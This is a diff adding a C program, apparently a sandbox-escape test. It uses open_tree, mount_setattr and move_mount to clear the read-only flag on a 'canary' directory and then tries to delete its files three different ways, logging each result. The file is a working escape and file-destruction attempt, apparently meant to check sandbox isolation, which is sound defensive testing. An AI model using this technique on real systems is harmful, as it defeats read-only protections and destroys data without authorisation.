@@ -1,0 +1,60 @@
+// attack: escape: the new mount API: open_tree(OPEN_TREE_CLONE) of the canary, mount_setattr to clear MOUNT_ATTR_RDONLY, move_mount it into the workspace, then destroy through the detached/attached copy
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+// The canary's regular files (top level), as names relative to it: the attack does not assume them.
+static int canary_files(const char *canary, char names[][256], int max) {
+    DIR *d = opendir(canary);
+    int n = 0;
+    struct dirent *e;
+    if (!d) { perror(canary); return 0; }
+    while (n < max && (e = readdir(d)))
+        if (e->d_type == DT_REG) snprintf(names[n++], 256, "%s", e->d_name);
+    closedir(d);
+    return n;
+}
+
+static long show(const char *what, long r) {
+    printf("%s -> %ld (%s)\n", what, r, r < 0 ? strerror(errno) : "success");
+    fflush(stdout);
+    return r;
+}
+
+static void write_file(const char *path, const char *text) {
+    int fd = open(path, O_WRONLY);
+    if (fd >= 0) { write(fd, text, strlen(text)); close(fd); }
+}
+
+struct mount_attr_ { unsigned long long attr_set, attr_clr, propagation, userns_fd; };
+
+int main(void) {
+    const char *canary = getenv("CANARY");
+    if (!canary) { fprintf(stderr, "CANARY not set\n"); return 2; }
+    char f[3][256], p[4096];
+    if (canary_files(canary, f, 3) < 3) { fprintf(stderr, "fewer than 3 canary files\n"); return 2; }
+    errno = 0;
+    int tree = (int)show("open_tree(canary, OPEN_TREE_CLONE|AT_RECURSIVE)", syscall(SYS_open_tree, AT_FDCWD, canary, 1 /* OPEN_TREE_CLONE */ | 0x8000 | O_CLOEXEC));
+    struct mount_attr_ attr = {.attr_clr = 0x1 /* MOUNT_ATTR_RDONLY */};
+    errno = 0;
+    show("mount_setattr(tree, clear RDONLY)", syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH | 0x8000, &attr, sizeof attr));
+    errno = 0;
+    show("mount_setattr(canary itself, clear RDONLY)", syscall(SYS_mount_setattr, AT_FDCWD, canary, 0x8000, &attr, sizeof attr));
+    errno = 0; show("unlinkat(tree fd, file 1)", tree >= 0 ? unlinkat(tree, f[0], 0) : (errno = EBADF, -1));
+    mkdir("escape-mnt", 0755);
+    errno = 0; show("move_mount(tree -> escape-mnt)", syscall(SYS_move_mount, tree, "", AT_FDCWD, "escape-mnt", 4 /* F_EMPTY_PATH */));
+    snprintf(p, sizeof p, "escape-mnt/%s", f[1]);
+    errno = 0; show("unlink(escape-mnt/file 2)", unlink(p));
+    snprintf(p, sizeof p, "%s/%s", canary, f[2]);
+    errno = 0; show("unlink(canary file 3) after clearing RDONLY", unlink(p));
+    return 0;
+}
